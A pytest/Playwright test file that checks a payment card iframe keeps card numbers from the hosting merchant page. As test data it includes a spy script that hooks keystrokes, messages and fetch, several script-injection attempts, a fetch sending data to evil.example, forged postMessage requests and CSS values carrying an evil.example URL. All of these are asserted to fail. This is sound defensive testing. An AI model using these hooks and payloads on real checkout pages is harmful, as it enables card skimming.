"""What a merchant's page, and whoever else gets at it, can find out of the card: nothing."""

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Route

from tests.pages import browsers, card_pages
from tests.pages.browsers import Stage
from tests.pages.card_pages import Till
from tests.waiting import eventually
from tillgate.clock import ManualClock
from tillgate.core.instants import SECOND
from tillgate.flows import profiles
from tillgate.pages import elements, scripts

pytestmark = pytest.mark.anyio

NUMBER, CVC, EXPIRY = "5555555555554444", "737", "11/31"

SPY = """
window.heard = []
const told_of = (one) => one?.data ?? one?.detail ?? String(one?.key ?? one)
const note = (what) => (...given) => heard.push([what, JSON.stringify(given.map(told_of))])
const EVERYTHING = "message keydown keyup keypress input beforeinput change paste copy focusin storage pointerdown"
for (const event of EVERYTHING.split(" ")) addEventListener(event, note(event), true)
const { MessageChannel: Real } = window
window.MessageChannel = class extends Real {
  constructor() {
    super()
    window.ports = (window.ports ?? []).concat(this.port1, this.port2)
    this.port1.addEventListener("message", note("port"))
    const { postMessage } = this.port1
    this.port1.postMessage = (...given) => {
      heard.push(["asked", JSON.stringify(given)])
      return postMessage.apply(this.port1, given)
    }
  }
}
const { fetch: real } = window
window.fetch = (...given) => {
  heard.push(["fetch", JSON.stringify(given)])
  return real(...given)
}
Object.defineProperty(Object.prototype, "number", { set(value) { heard.push(["number", value]) }, configurable: true })
"""
"""A page that listens to everything that it can."""

PEEK = """() => {
  const frame = document.querySelector("#card iframe")
  const tried = {}
  const reaching = {
    document: () => frame.contentWindow.document.body.textContent,
    cardFields: () => frame.contentWindow.cardFields,
    form: () => frame.contentWindow.frames[0].form,
    location: () => frame.contentWindow.location.href,
    storage: () => frame.contentWindow.localStorage.length,
  }
  for (const [name, reach] of Object.entries(reaching)) {
    try {
      tried[name] = String(reach())
    } catch (error) {
      tried[name] = error.name
    }
  }
  return { tried, contentDocument: frame.contentDocument, seen: JSON.stringify([
    heard, told, { ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state,
    document.documentElement.outerHTML, performance.getEntries().map((entry) => entry.name), frame.src,
  ]) }
}"""


@pytest.fixture(scope="module")
async def stage(tmp_path_factory: pytest.TempPathFactory, anyio_backend: object) -> AsyncIterator[Stage]:
    """One server and one browser for the tests of the file."""
    clock = ManualClock(1_767_225_600 * SECOND)
    async with browsers.stage(tmp_path_factory.mktemp("home"), clock) as made:
        yield made


async def typed(till: Till) -> None:
    """Type a card, as people do."""
    for name, value in (("card-number", NUMBER), ("card-expiry", EXPIRY), ("card-cvc", CVC)):
        await till.fields.get_by_test_id(name).press_sequentially(value)


async def test_a_page_that_listens_to_everything_learns_nothing_of_the_card(stage: Stage) -> None:
    async with card_pages.till(stage, before=SPY) as till:
        await typed(till)
        result = await till.confirm(await till.intent())
        assert result["paymentIntent"]["status"] == "succeeded"
        peeked = await till.page.evaluate(PEEK)
        assert peeked["contentDocument"] is None
        assert set(peeked["tried"].values()) == {"SecurityError"}
        seen = peeked["seen"]
        # It did hear what it may.
        assert all(one in seen for one in ("mastercard", "port", "asked", "payment_method_details"))
        digits = "".join(character for character in seen if character.isdigit())
        for secret in (NUMBER, "5555 5555", NUMBER[:6], NUMBER[-8:], "11 / 31", CVC + '"'):
            assert secret not in seen
        assert NUMBER not in digits


async def test_what_is_put_into_the_frame_does_not_run_and_its_script_asks_nobody_else(stage: Stage) -> None:
    refusals = ("This document requires", "violates the following", "Refused to connect")
    async with card_pages.till(stage, expects=refusals) as till:
        frame = till.frame()
        tries = """() => {
          const tried = []
          const attempts = [
            () => document.body.append(Object.assign(document.createElement("script"), { textContent: "ran = 1" })),
            () => (document.body.innerHTML += "<img src=x onerror='window.ran = 1'>"),
            () => document.body.setAttribute("onclick", "window.ran = 1"),
            () => setTimeout("window.ran = 1"),
            () => (location.href = "javascript:window.ran = 1"),
          ]
          for (const attempt of attempts) {
            try { attempt() } catch (error) { tried.push(error.name) }
          }
          document.body.click()
          return tried
        }"""
        assert await frame.evaluate(tries) == ["TypeError"] * 4
        away = "(url) => fetch(url, { mode: 'no-cors', method: 'POST', body: '4242' }).catch((error) => error.name)"
        assert await frame.evaluate(away, "https://evil.example/") == "TypeError"
        assert await frame.evaluate("window.ran") is None


async def test_a_page_that_posts_messages_to_the_frame_gets_nothing(stage: Stage) -> None:
    async with card_pages.till(stage) as till:
        await typed(till)
        answered = await till.page.evaluate(
            """async () => {
              const frame = document.querySelector("#card iframe").contentWindow
              const got = []
              const { port1, port2 } = new MessageChannel()
              port1.onmessage = ({ data }) => got.push(data)
              const ask = { id: "1", what: "token", given: {} }
              frame.postMessage(ask, "*")
              frame.postMessage({ options: {} }, "*", [port2])
              port1.postMessage(ask)
              for (const odd of [null, 1, "x", [], { options: null }, { options: 1 }, { id: 1, what: "__proto__" }]) {
                frame.postMessage(odd, "*")
              }
              // What is answered now was asked after all of that.
              for (const what of ["constructor", "__proto__", "value", "toString", undefined]) await card.ask(what)
              await card.ask("confirm", { about: { path: "https://evil.example/v1/payment_intents/pi_1" } })
              return got
            }"""
        )
        assert answered == []
        assert await till.fields.get_by_test_id("card-number").input_value() == "5555 5555 5555 4444"


async def test_another_window_that_was_first_gets_nothing(stage: Stage) -> None:
    _, key = await card_pages.new_key(stage)
    sibling = """
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => parent.postMessage(["sibling", data], "*")
      parent.frames[0].postMessage({ options: {} }, "*", [port2])
      parent.postMessage(["posted"], "*")
    """
    page_script = """
      const got = []
      addEventListener("message", ({ data }) => got.push(data))
      const first = document.querySelector("iframe")
      first.addEventListener("load", () => {
        const second = document.createElement("iframe")
        second.src = "sibling"
        document.body.append(second)
      })
    """
    html = f"""<!doctype html><title>Shop</title><iframe src="{stage.url}{elements.PATH}?key={key}"></iframe>
      <script>{page_script}</script>"""
    files = {"/": ("text/html", html), "/sibling": ("text/html", f"<!doctype html><script>{sibling}</script>")}
    async with card_pages.site(files) as url, stage.payer() as page:
        await page.goto(url)
        await eventually(lambda: page.evaluate("got.length"))
        # The page around it is heard all the same, and later than the other asked.
        ready = """() => new Promise((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = ({ data }) => resolve(data)
          first.contentWindow.postMessage({ options: {} }, "*", [port2])
        })"""
        assert await page.evaluate(ready) == {"event": "ready"}
        assert await page.evaluate("got") == [["posted"]]


async def test_pages_of_unlisted_origins_cannot_frame_the_fields_and_are_told_why(stage: Stage) -> None:
    parts = stage.merchant.parts
    async with card_pages.till(stage, expects=("frame-ancestors", "ERR_BLOCKED_BY_RESPONSE")) as listed:
        key = await listed.page.evaluate("new URL(document.querySelector('#card iframe').src).searchParams.get('key')")
        principal, tenant = await parts.directory.identify(key, on_this_machine=True)
        assert principal.tenant == tenant.id
        await profiles.register(parts.gateway, tenant, lambda _: ("https://shop.example",))
        async with listed.page.expect_console_message(lambda message: "frame-ancestors" in message.text):
            await listed.page.evaluate("card.mount('#card')")
        result = await listed.page.evaluate("ateni.createToken(card)")
        assert result["error"]["code"] == "element_unavailable"
        assert "registered" in result["error"]["message"]
        assert all("card_fields" not in frame.url for frame in listed.page.frames)


async def test_in_live_mode_the_frame_itself_refuses_to_be_filled_in(stage: Stage) -> None:
    async with card_pages.till(stage) as till:
        path = scripts.NAMED["test_cards.js"].path

        async def as_live(route: Route) -> None:
            answer = await route.fetch()
            lines = (await answer.text()).splitlines()
            await route.fulfill(response=answer, body="\n".join(line for line in lines if path not in line))

        await till.page.route(f"**{elements.PATH}?*", as_live)
        await till.page.evaluate("told.length = 0; card.mount('#card')")
        await eventually(lambda: till.page.evaluate("told.some(([event]) => event === 'ready')"))
        error = (await till.fill("visa"))["error"]
        assert (error["type"], error["code"]) == ("invalid_request_error", "test_mode_only")
        assert await till.fields.get_by_test_id("card-number").input_value() == ""


async def test_appearance_is_values_and_never_a_style_sheet(stage: Stage) -> None:
    variables = {
        "colorText": "url(https://evil.example/?)",
        "colorBackground": "var(--ink)",
        "colorDanger": "red; background: url(https://evil.example/?)",
        "colorBorder": "#12345",
        "fontSize": "calc(100px * 100)",
        "borderRadius": "999",
        "content": "x",
        "colorPrimary": "#0a0",
    }
    given = {"elements": {"appearance": {"theme": "url(x)", "variables": variables}}}
    async with card_pages.till(stage, given=given) as till:
        root = "document.documentElement"
        assert await till.frame().evaluate(f"{root}.getAttribute('style')") == "--accent: #0a0;"
        assert await till.frame().evaluate(f"{root}.dataset.theme") is None
